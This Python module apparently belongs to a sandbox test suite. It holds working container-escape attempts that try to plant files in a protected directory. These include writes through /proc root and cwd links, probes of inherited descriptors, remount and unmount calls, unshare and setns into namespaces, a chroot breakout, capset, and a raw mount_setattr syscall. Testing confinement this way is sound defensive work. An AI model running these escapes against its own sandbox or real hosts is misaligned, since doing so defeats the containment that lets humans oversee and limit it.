"""Attacks on the gate itself: mounts, namespaces, roots, descriptors."""
# ruff: noqa: PTH102, PTH120  # the system's own calls are the attacks

from __future__ import annotations

import ctypes
import os
from collections.abc import Callable
from contextlib import suppress

from hostile.ground import HOME, LIBC, PROJECT, SERVICE, attack, checked, first_of, mount, put

REMOUNT, BIND, REC, PRIVATE = 32, 4096, 16384, 262144
NEW_USERS, NEW_MOUNTS = 0x10000000, 0x20000


def then_write() -> None:
    put(f"{PROJECT}/after-mount")


@attack("content")
def roots_of_others() -> None:
    first_of(
        [
            lambda place=f"/proc/{number}/{way}/planted-by-root": put(place)
            for number in ("1", str(SERVICE), str(os.getppid()), "self", "thread-self")
            for way in ("root" + PROJECT, "cwd")
        ]
    )


@attack("content")
def inherited_descriptors() -> None:
    def through(number: int, path: str) -> None:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=number))

    first_of(
        [
            lambda number=number, path=path: through(number, path)
            for number in range(3, 300)
            for path in ("planted", f"../../../../../..{PROJECT}/planted-by-descriptor")
        ]
    )


@attack("content")
def remount() -> None:
    for place in (PROJECT, "/", os.path.dirname(PROJECT), "/proc", "/dev", "/tmp"):  # noqa: S108
        for flags in (REMOUNT, REMOUNT | BIND, REMOUNT | BIND | REC):
            with suppress(OSError):
                mount("", place, flags)
    then_write()


@attack("content")
def clear_read_only() -> None:
    clear_below()
    then_write()


@attack("content")
def unmount() -> None:
    for place in (PROJECT, "/proc", "/dev", "/", HOME):
        LIBC.umount2(place.encode(), 2)
    then_write()


@attack("content")
def bind_elsewhere() -> None:
    os.mkdir(f"{HOME}/bound")
    mount(PROJECT, f"{HOME}/bound", BIND)
    mount("", f"{HOME}/bound", REMOUNT | BIND)
    put(f"{HOME}/bound/planted")


@attack("content")
def namespaces_of_its_own() -> None:
    def act() -> None:
        checked(LIBC.unshare(NEW_USERS | NEW_MOUNTS))
        mount("", "/", REC | PRIVATE)
        for place in (PROJECT, "/"):
            with suppress(OSError):
                mount("", place, REMOUNT | BIND)
        clear_below()
        then_write()

    in_child(act)


@attack("content")
def namespaces_of_others() -> None:
    def act() -> None:
        for number in ("1", str(SERVICE), str(os.getppid())):
            for kind in ("user", "mnt"):
                with suppress(OSError):
                    LIBC.setns(os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY), 0)
        then_write()

    in_child(act)


@attack("content")
def change_root() -> None:
    def act() -> None:
        os.chroot(HOME)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        then_write()

    in_child(act)


@attack("content")
def capabilities_again() -> None:
    def act() -> None:
        header, wanted = (
            (ctypes.c_uint32 * 2)(0x20080522, 0),
            (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6),
        )
        checked(LIBC.capset(header, wanted))
        clear_below()
        then_write()

    in_child(act)


def clear_below() -> None:
    """Ask for every mount to be writable again."""
    change = (ctypes.c_uint64 * 4)(0, 7, 0, 0)
    for place in (b"/", PROJECT.encode()):
        LIBC.syscall(ctypes.c_long(442), -100, place, 0x8000, change, ctypes.c_size_t(32))


def in_child(act: Callable[[], None]) -> None:
    """Do it in a child, since it changes what the process is; it worked if the child says so."""
    child = os.fork()
    if child == 0:
        status = 1
        try:
            act()
            status = 0
        finally:
            os._exit(status)
    if os.waitpid(child, 0)[1]:
        raise OSError("none")
